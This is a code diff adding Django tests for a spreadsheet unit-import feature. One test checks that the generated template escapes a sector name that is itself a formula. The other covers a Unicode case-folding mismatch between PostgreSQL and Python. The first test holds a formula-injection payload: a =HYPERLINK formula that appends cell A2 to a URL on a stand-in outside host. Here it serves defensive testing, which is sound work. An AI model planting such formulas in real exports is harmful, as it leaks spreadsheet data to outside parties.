@@ -19,10 +19,10 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 
-from tests.factories import UnitFactory
+from tests.factories import MunicipalityFactory, UnitFactory, make_coordinator
 from tests.test_forms_a11y import Page, assert_errors_are_tied_to_their_inputs
 from units import freshness, imports, services
-from units.models import AuditEvent, Municipality, Unit, UnitKind, User
+from units.models import AuditEvent, Municipality, Sector, Unit, UnitKind, User
 
 HEADER = "namn;sektor;typ;anmälningsplikt;antal anställda;funktionsbrevlåda"
 
@@ -329,6 +329,25 @@ def test_the_template_reads_back_as_one_good_row(
 
 
 @pytest.mark.django_db
+def test_a_sector_name_like_a_formula_stays_text_in_the_template_and_reads_back(
+    client: Client,
+) -> None:
+    municipality = MunicipalityFactory.create()
+    municipality.sectors.update(is_active=False)  # the formula is the only sector in use
+    formula = '=HYPERLINK("https://elsewhere.example/?"&A2;"x")'
+    Sector.objects.create(municipality=municipality, name=formula)
+    client.force_login(make_coordinator(municipality))
+    response = client.get(reverse("units:import_template", args=[municipality.pk]))
+    # Shown as text by the spreadsheet, as our exports write such a name.
+    assert "\r\n'=HYPERLINK" not in response.content.decode("utf-8-sig")
+    assert ";'=HYPERLINK(" in response.content.decode("utf-8-sig").replace('"', "")
+    (row,) = imports.check(municipality=municipality, rows=imports.parse(response.content).rows)
+    assert row.status == imports.RowStatus.NEW
+    assert row.unit_fields is not None
+    assert row.unit_fields["sector"].name == formula
+
+
+@pytest.mark.django_db
 def test_the_preview_saves_nothing_and_says_each_rows_status(
     client: Client, coordinator: User, municipality: Municipality, unit_a: Unit
 ) -> None:
@@ -581,6 +600,27 @@ def test_a_unit_created_after_the_preview_is_skipped(
     assert response.status_code == 302
     assert [str(m) for m in get_messages(response.wsgi_request)] == ["1 enhet har importerats."]
     assert Unit.objects.get(name="Kvarnen").headcount == 9  # untouched
+
+
+@pytest.mark.django_db
+def test_a_name_the_database_folds_otherwise_does_not_block_the_import(
+    client: Client, coordinator: User, municipality: Municipality
+) -> None:
+    """PostgreSQL's LOWER folds "İ" to "i", Python's casefold does not: the unique constraint
+    on the lowered name then refused what the preview called new, at every confirmation."""
+    UnitFactory.create(municipality=municipality, name="insikt")
+    client.force_login(coordinator)
+    payload = preview(
+        client, municipality, HEADER, "İnsikt;Förskola;;;18;", "Kvarnen;Fritidsgård;;;4;"
+    )
+    response = client.post(confirm_url(municipality), {"payload": payload})
+    assert response.status_code == 302
+    assert Unit.objects.filter(name="Kvarnen").exists()
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT LOWER(%s) = LOWER(%s)", ["İnsikt", "insikt"])
+        (same_in_the_database,) = cursor.fetchone()
+    # Skipped where the database calls the names the same (PostgreSQL), created where not.
+    assert Unit.objects.filter(name="İnsikt").exists() is not bool(same_in_the_database)
 
 
 @pytest.mark.django_db
